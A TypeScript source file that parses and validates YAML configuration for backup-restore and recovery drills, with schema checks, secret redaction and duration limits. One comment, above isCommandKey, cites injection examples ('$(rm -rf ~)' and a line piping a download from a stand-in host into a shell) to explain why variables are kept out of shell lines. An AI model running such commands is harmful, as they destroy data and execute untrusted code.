import { readFileSync } from 'node:fs';
import { basename, dirname, isAbsolute, resolve } from 'node:path';
import Ajv, { type ErrorObject } from 'ajv';
import { ConfigError } from '../errors';
import { parseDuration } from './duration';
import type { AzureAccess } from './providers/azureArm';
import type { SslMode } from './pgTls';
import { Redactor } from './redact';
import { environmentDrillChecks, rollbackSettings, terraformSettings, type RollbackSettings, type TerraformSettings } from './recreation/settings';
import { drillFileSchema, PROBE_TYPES } from './schema';
import { assertInputSize } from '../config/inputSize';
import { nearest } from '../config/suggest';
import { formatPath, parseYamlSource, type DocPath as YamlPath, type YamlSource as ParsedYaml } from '../config/yamlSource';

export type ProviderName = 'postgres' | 'embedded' | 'command' | 'azure-postgres-flexible' | 'azure-sql' | 'terraform' | 'rollback';
export type ProbeType = (typeof PROBE_TYPES)[number];

export interface ProbeSpec {
  type: ProbeType;
  name: string;
  timeoutSeconds: number;
  tables?: string[];
  sql?: string;
  expect?: unknown;
  url?: string;
  expectStatus?: number;
  bodyContains?: string;
  command?: string;
  /** A command as [program, arg, ...], run without a shell. */
  argv?: string[];
}

/** A validated drill file: durations in seconds, `${VAR}` expanded, paths absolute. */
export interface DrillConfig {
  file: string;
  /** Commands and relative paths are resolved from here. */
  dir: string;
  service: string;
  environment?: string;
  provider: ProviderName;
  disruption?: string;
  targets: { rtoSeconds: number; rpoSeconds: number; rollbackSeconds?: number; recoverSeconds?: number };
  source: {
    connection?: string;
    allowWrites: boolean;
    seed?: string;
    /** Azure providers: where the source server (and, for azure-sql, database) lives. */
    subscription?: string;
    resourceGroup?: string;
    server?: string;
    database?: string;
  };
  backup: {
    archive?: string;
    fresh: boolean;
    baseBackup?: string;
    checkpoint?: string;
    directory?: string;
    file?: string;
    newestCommand?: string;
    /** Azure providers: the log-backup cadence the latest restorable time is derived from. */
    logBackupInterval?: string | number;
  };
  target: {
    database?: string;
    connection?: string;
    name?: string;
    /** azure-postgres-flexible: the scratch server, and how probes sign in to it. */
    server?: string;
    location?: string;
    user?: string;
    password?: string;
    port?: number;
    sslmode?: SslMode;
  };
  restore: { jobs?: number; command?: string; pointInTime?: string; pollInterval?: string | number };
  start: { command?: string; health?: { url: string; expectStatus: number; intervalSeconds: number } };
  probes: ProbeSpec[];
  rpo: { query?: string; heartbeat?: { table: string; column: string; write: boolean }; command?: string };
  cleanup: { keep: boolean; command?: string };
  timeouts: {
    preflight: number;
    backup: number;
    restore: number;
    start: number;
    probe: number;
    cleanup: number;
    init: number;
    plan: number;
    apply: number;
    destroy: number;
    deploy: number;
  };
  /** provider: terraform (an environment recreation drill). */
  terraform?: TerraformSettings;
  /** provider: rollback (a deployment rollback drill). */
  rollback?: RollbackSettings;
  tools: { binDir?: string };
  /**
   * The `${VAR}` values that command keys reference, by name. Command lines keep `${VAR}` as written and get these
   * in their environment, so the shell expands a value as data and never parses it as shell syntax.
   */
  commandEnv: Record<string, string>;
  redactor: Redactor;
  /** Azure Resource Manager access for the Azure providers; set by the runner from DrillOptions.azure, never from the file. */
  azure?: AzureAccess;
}

/** The program we serve demands RTO under 15 minutes and RPO under 5 minutes (issue 5); those are the defaults. */
export const DEFAULT_TARGETS = Object.freeze({ rto: 15 * 60, rpo: 5 * 60 });
export const DEFAULT_TIMEOUTS = Object.freeze({
  preflight: 60,
  backup: 30 * 60,
  restore: 30 * 60,
  start: 5 * 60,
  probe: 60,
  cleanup: 5 * 60,
  init: 10 * 60,
  plan: 30 * 60,
  apply: 60 * 60,
  destroy: 60 * 60,
  deploy: 30 * 60,
});

const ajv = new Ajv({ allErrors: true, verbose: true, strict: false });
const validate = ajv.compile(drillFileSchema);
/** Keys that hold paths, resolved against the drill file's folder. */
const PATH_KEYS: YamlPath[] = [
  ['backup', 'archive'],
  ['backup', 'baseBackup'],
  ['backup', 'checkpoint'],
  ['backup', 'directory'],
  ['backup', 'file'],
  ['source', 'seed'],
];
const SECRET_ENV_NAME = /pass|secret|token|key|pwd|credential/i;

export function loadDrillConfig(file: string, env: NodeJS.ProcessEnv = process.env): DrillConfig {
  assertInputSize(file, 'yaml');
  let text: string;
  try {
    text = readFileSync(file, 'utf8');
  } catch (error) {
    throw new ConfigError(`${file}: cannot read the drill file (${(error as NodeJS.ErrnoException).code ?? error}); check the --config path.`);
  }
  return parseDrillConfig(text, file, env);
}

export function parseDrillConfig(text: string, file: string, env: NodeJS.ProcessEnv = process.env): DrillConfig {
  const name = basename(file);
  const yaml = parseYamlSource(name, text, name);
  if (yaml.syntaxProblems.length) throw new ConfigError(yaml.syntaxProblems);
  const problems: string[] = [];
  const at = (path: YamlPath, message: string, keyLine = false) =>
    problems.push(`${name}:${(keyLine ? yaml.lineOf(path) : yaml.valueLineOf(path)) ?? 1} ${formatPath(path)}: ${message}`);
  const data = yaml.data;
  if (typeof data !== 'object' || data === null || Array.isArray(data)) {
    throw new ConfigError(`${name}:1 (file): a drill file is a YAML mapping with at least service and provider.`);
  }
  const raw = data as Record<string, any>;
  if (Array.isArray(raw.probes)) raw.probes = raw.probes.map((p: unknown) => (typeof p === 'string' ? { type: p } : p));
  if (!validate(raw as unknown)) for (const e of validate.errors ?? []) reportSchemaError(e, yaml, at);

  const redactor = new Redactor();
  const commandEnv: Record<string, string> = {};
  expandEnv(raw, [], env, redactor, at, commandEnv);
  const seconds = (path: YamlPath, fallback: number): number => {
    let value: unknown = raw;
    for (const step of path) value = (value as Record<string | number, unknown> | undefined)?.[step];
    return value === undefined ? fallback : (parseDuration(value) ?? fallback);
  };
  semanticChecks(raw, at);
  environmentDrillChecks(raw, at);
  durationLimits(raw, at);
  for (const section of ['source', 'target']) {
    const connection = raw[section]?.connection;
    if (typeof connection !== 'string') continue;
    // Registered before any problem is reported, so even a malformed one never reaches a log.
    redactor.addSecret(passwordOf(connection));
    const bad = badPercentEscape(connection);
    if (bad) {
      at([section, 'connection'], `the ${bad} in the connection URL has a "%" not followed by two hex digits; percent-encode special characters (a literal % is %25), e.g. with encodeURIComponent, or put the password in a secret variable and write \${VAR}`);
    }
  }
  if (problems.length) throw new ConfigError(problems);

  const dir = dirname(resolve(file));
  for (const path of PATH_KEYS) {
    const section = raw[path[0] as string];
    const key = path[1] as string;
    if (section && typeof section[key] === 'string' && !isAbsolute(section[key])) section[key] = resolve(dir, section[key]);
  }
  if (typeof raw.target?.password === 'string') redactor.addSecret(raw.target.password);
  const disruption = raw.disruption as string | undefined;
  const targetRoot: YamlPath = disruption ? ['targets', 'disruptions', disruption] : ['targets'];
  const probes: ProbeSpec[] = (raw.probes ?? []).map((p: Record<string, unknown>, i: number) => ({
    ...p,
    name: (p.name as string) ?? defaultProbeName(p, i),
    timeoutSeconds: seconds(['probes', i, 'timeout'], seconds(['timeouts', 'probe'], DEFAULT_TIMEOUTS.probe)),
  }));
  const heartbeat = raw.rpo?.heartbeat;
  return {
    file: resolve(file),
    dir,
    service: raw.service,
    environment: raw.environment,
    provider: raw.provider,
    disruption,
    targets: {
      rtoSeconds: seconds([...targetRoot, 'rto'], seconds(['targets', 'rto'], DEFAULT_TARGETS.rto)),
      rpoSeconds: seconds([...targetRoot, 'rpo'], seconds(['targets', 'rpo'], DEFAULT_TARGETS.rpo)),
      ...(raw.provider === 'rollback'
        ? { rollbackSeconds: seconds(['targets', 'rollback'], DEFAULT_TARGETS.rto), recoverSeconds: seconds(['targets', 'recover'], DEFAULT_TARGETS.rto) }
        : {}),
    },
    source: { ...raw.source, allowWrites: raw.source?.allowWrites === true },
    backup: { ...raw.backup, fresh: raw.backup?.fresh === true },
    target: { ...raw.target },
    restore: { ...raw.restore },
    start: {
      command: raw.start?.command,
      health: raw.start?.health && {
        url: raw.start.health.url,
        expectStatus: raw.start.health.expectStatus ?? 200,
        intervalSeconds: seconds(['start', 'health', 'interval'], 1),
      },
    },
    probes,
    rpo: {
      query: raw.rpo?.query,
      command: raw.rpo?.command,
      heartbeat: heartbeat && { table: heartbeat.table, column: heartbeat.column ?? 'beat_at', write: heartbeat.write === true },
    },
    cleanup: { keep: raw.cleanup?.keep === true, command: raw.cleanup?.command },
    timeouts: Object.fromEntries(
      Object.entries(DEFAULT_TIMEOUTS).map(([step, fallback]) => [step, seconds(['timeouts', step], fallback)]),
    ) as DrillConfig['timeouts'],
    tools: { ...raw.tools },
    commandEnv,
    ...(raw.provider === 'terraform' ? { terraform: terraformSettings(raw, dir, seconds) } : {}),
    ...(raw.provider === 'rollback' ? { rollback: rollbackSettings(raw, seconds) } : {}),
    redactor,
  };
}

function reportSchemaError(e: ErrorObject, yaml: ParsedYaml, at: (p: YamlPath, m: string, k?: boolean) => void): void {
  // `if` errors only repeat what the `then` branch already said.
  if (e.keyword === 'if') return;
  const path: YamlPath = e.instancePath
    .split('/')
    .slice(1)
    .map((s) => (/^\d+$/.test(s) ? Number(s) : s.replace(/~1/g, '/').replace(/~0/g, '~')));
  switch (e.keyword) {
    case 'additionalProperties': {
      const key = (e.params as { additionalProperty: string }).additionalProperty;
      const known = Object.keys((e.parentSchema as { properties?: object })?.properties ?? {});
      const guess = nearest(key, known);
      const hint = guess ? `did you mean "${guess}"?` : known.length ? `known keys: ${known.join(', ')}` : 'remove it';
      return at([...path, key], `unknown key "${key}"; ${hint}`, true);
    }
    case 'required':
    {
      const key = (e.params as { missingProperty: string }).missingProperty;
      const why = key === 'probes' && path.length === 0 ? '; list at least one probe (for example [select1]): a drill without probes proves nothing' : '';
      return at(path, `missing required key "${key}"${why}`);
    }
    case 'enum': {
      const allowed = (e.params as { allowedValues: unknown[] }).allowedValues.map(String);
      const guess = typeof e.data === 'string' ? nearest(e.data, allowed) : undefined;
      return at(path, `"${String(e.data)}" is not one of ${allowed.join(', ')}${guess ? `; did you mean "${guess}"?` : ''}`);
    }
    case 'anyOf':
      // Only durations use anyOf.
      return at(path, `"${String(e.data)}" is not a duration; write e.g. 90s, 15m, 1h30m or a number of seconds`);
    case 'pattern':
      if (path[0] === 'target' && path[1] === 'server')
        return at(path, `"${String(e.data)}" is not a server name Azure accepts; use 3 to 63 lower-case letters, digits and hyphens, not starting or ending with a hyphen`);
      if (path[0] === 'target' && path[1] === 'database')
        return at(path, `"${String(e.data)}" is not a plain database name; use lower-case letters, digits and _ (at most 63)`);
      return;
    case 'type':
      if (e.schemaPath.includes('anyOf')) return; // reported once by the anyOf case
      return at(path, `must be ${(e.params as { type: string }).type}`);
    default:
      return at(path, e.message ?? 'is not valid');
  }
}

/**
 * Keys whose value is a command line for `/bin/sh -c`. Pasting a value into such a line would let a value such as
 * `$(rm -rf ~)` or `; curl evil | sh` run as code (command injection), so in these `${VAR}` is left for the shell
 * to expand from the environment (see `commandEnv`): a shell never re-parses an expanded value.
 */
export function isCommandKey(path: YamlPath): boolean {
  const last = path[path.length - 1];
  return last === 'command' || last === 'newestCommand';
}

const ENV_REFERENCE = /\$\{([A-Za-z_][A-Za-z0-9_]*)\}/g;

function expandEnv(
  node: any,
  path: YamlPath,
  env: NodeJS.ProcessEnv,
  redactor: Redactor,
  at: (p: YamlPath, m: string) => void,
  commandEnv: Record<string, string>,
): void {
  if (!node || typeof node !== 'object') return;
  for (const key of Object.keys(node)) {
    const value = node[key];
    const here = [...path, Array.isArray(node) ? Number(key) : key];
    if (typeof value === 'string') {
      const command = isCommandKey(here);
      const expanded = value.replace(ENV_REFERENCE, (match, name: string) => {
        const found = env[name];
        if (found === undefined) {
          at(here, `environment variable ${name} is not set; set it, or pass it as a secret pipeline variable`);
          return '';
        }
        if (SECRET_ENV_NAME.test(name)) redactor.addSecret(found);
        if (!command) return found;
        commandEnv[name] = found;
        return match;
      });
      node[key] = expanded;
    } else {
      expandEnv(value, here, env, redactor, at, commandEnv);
    }
  }
}

function semanticChecks(raw: Record<string, any>, at: (p: YamlPath, m: string) => void): void {
  const backup = raw.backup ?? {};
  if (raw.provider === 'postgres' && raw.backup && !backup.archive && !backup.fresh && !backup.directory) {
    at(['backup'], 'say which backup to restore: archive: PATH (a pg_dump archive) or fresh: true');
  }
  if (raw.provider === 'postgres' && backup.archive && backup.fresh) {
    at(['backup', 'fresh'], 'choose one: archive (restore an existing dump) or fresh: true (dump at drill time)');
  }
  if (raw.provider === 'embedded' && raw.backup && !backup.file && !backup.fresh) {
    at(['backup'], 'say which backup to restore: file: PATH (a PGlite dumpDataDir tarball) or fresh: true');
  }
  if (raw.provider === 'embedded' && backup.fresh && !raw.source?.seed) {
    at(['backup', 'fresh'], 'a fresh embedded backup needs a source: set source.seed to a SQL file');
  }
  if (raw.rpo?.query && raw.rpo?.heartbeat) at(['rpo'], 'choose one RPO source: query or heartbeat');
  if (raw.rpo?.heartbeat?.write && raw.source?.allowWrites !== true) {
    at(['rpo', 'heartbeat', 'write'], 'writing a heartbeat changes the source; add source.allowWrites: true to opt in');
  }
  if (raw.rpo?.heartbeat?.write && !backup.fresh) {
    at(['rpo', 'heartbeat', 'write'], 'a heartbeat written now only lands in a fresh backup; set backup.fresh: true');
  }
  if (raw.disruption && !raw.targets?.disruptions?.[raw.disruption]) {
    const known = Object.keys(raw.targets?.disruptions ?? {});
    at(['disruption'], `no targets.disruptions.${raw.disruption} declared${known.length ? ` (declared: ${known.join(', ')})` : ''}`);
  }
  for (const [i, p] of (Array.isArray(raw.probes) ? raw.probes : []).entries()) {
    if (raw.provider === 'command' && ['select1', 'schema', 'rowcounts', 'checksums', 'sql'].includes(p?.type)) {
      at(['probes', i, 'type'], `the command provider has no SQL connection; use http or command probes`);
    }
    if (p?.type === 'command' && p.command === undefined && p.argv === undefined) at(['probes', i], 'a command probe needs command (a shell line) or argv: [program, arg, ...]');
  }
  const pointInTime = raw.restore?.pointInTime;
  if (typeof raw.provider === 'string' && raw.provider.startsWith('azure-') && pointInTime !== undefined && pointInTime !== 'latest'
    && !(typeof pointInTime === 'string' && /^\d{4}-\d\d-\d\dT\d\d:\d\d(:\d\d(\.\d+)?)?(Z|[+-]\d\d:\d\d)$/.test(pointInTime) && !Number.isNaN(Date.parse(pointInTime)))) {
    at(['restore', 'pointInTime'], `"${String(pointInTime)}" is not a time; write latest, or an ISO 8601 time with its zone, e.g. "2026-11-26T22:00:00Z" (quoted)`);
  }
  if (Array.isArray(raw.probes) && raw.probes.length === 0) at(['probes'], 'list at least one probe; a drill without probes proves nothing');
}

function defaultProbeName(p: Record<string, unknown>, index: number): string {
  if (p.tables) return `${p.type} ${(p.tables as string[]).join(', ')}`;
  if (p.url) return `${p.type} ${p.url}`;
  if (Array.isArray(p.argv)) return `${p.type} ${String(p.argv[0])}`;
  return p.type === 'sql' || p.type === 'command' ? `${p.type} #${index + 1}` : String(p.type);
}

/**
 * The password in a connection string, as it will be sent (decoded). A password whose percent-escapes do not
 * decode is returned raw: it must still be masked, and the config check reports it.
 */
export function passwordOf(connection: string): string | undefined {
  let url: URL;
  try {
    url = new URL(connection);
  } catch {
    return /password\s*=\s*('([^']*)'|(\S+))/i.exec(connection)?.slice(2).find(Boolean);
  }
  if (!url.password) return undefined;
  try {
    return decodeURIComponent(url.password);
  } catch {
    return url.password;
  }
}

/** Which part of a URL connection string (user, password, host, database) has a malformed percent-escape, if any. */
export function badPercentEscape(connection: string): string | undefined {
  let url: URL;
  try {
    url = new URL(connection);
  } catch {
    return undefined; // not a URL: parseConnection says so when it is used
  }
  const parts: Array<[string, string]> = [['user name', url.username], ['password', url.password], ['host', url.hostname], ['database name', url.pathname]];
  for (const [what, text] of parts) {
    try {
      decodeURIComponent(text);
    } catch {
      return what;
    }
  }
  return undefined;
}

/**
 * Node's timers fire at once for delays over 2^31-1 ms (about 24.8 days), so an oversized timeout would not wait at
 * all; nobody needs a drill step longer than a day. A health check polled faster than every 100ms only burns CPU.
 */
export const DURATION_LIMITS = Object.freeze({ timeoutMax: 24 * 3600, pollMax: 3600, healthIntervalMin: 0.1 });

function durationLimits(raw: Record<string, any>, at: (p: YamlPath, m: string) => void): void {
  const check = (path: YamlPath, value: unknown, min: number, max: number) => {
    const seconds = parseDuration(value);
    if (seconds === undefined) return; // not a duration: the schema reported it
    if (seconds > max) at(path, `${String(value)} is longer than the ${formatLimit(max)} allowed; use at most ${formatLimit(max)}`);
    else if (seconds < min) at(path, `${String(value)} is shorter than the ${formatLimit(min)} minimum; polling faster only spins the agent's CPU`);
  };
  for (const [key, value] of Object.entries(raw.timeouts ?? {})) check(['timeouts', key], value, 0, DURATION_LIMITS.timeoutMax);
  for (const [i, p] of (Array.isArray(raw.probes) ? raw.probes : []).entries()) {
    if (p && typeof p === 'object' && p.timeout !== undefined) check(['probes', i, 'timeout'], p.timeout, 0, DURATION_LIMITS.timeoutMax);
  }
  if (raw.restore?.pollInterval !== undefined) check(['restore', 'pollInterval'], raw.restore.pollInterval, 0, DURATION_LIMITS.pollMax);
  if (raw.start?.health?.interval !== undefined) {
    check(['start', 'health', 'interval'], raw.start.health.interval, DURATION_LIMITS.healthIntervalMin, DURATION_LIMITS.pollMax);
  }
}

function formatLimit(seconds: number): string {
  return seconds >= 3600 ? `${seconds / 3600}h` : seconds >= 1 ? `${seconds}s` : `${seconds * 1000}ms`;
}
